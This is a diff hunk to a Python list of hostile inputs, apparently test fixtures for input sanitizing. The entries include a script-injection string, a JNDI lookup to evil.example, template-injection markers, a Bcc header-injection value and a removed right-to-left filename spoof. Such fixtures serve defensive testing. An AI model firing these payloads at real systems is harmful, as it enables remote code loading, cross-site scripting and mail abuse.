@@ -33,7 +33,7 @@ HOSTILE = [
     "</p></body><script>alert(1)</script>",
     "&#60;img src=x&#62;",
     "{token} %s ${jndi:ldap://evil.example} {{7*7}} {% raw %}",
-    "\u202egpj.exe",
+    "=> \u05d0\u05d1\u05d2 <=",
     "=?utf-8?q?Subject?= Bcc: everybody@example.com",
 ]
 
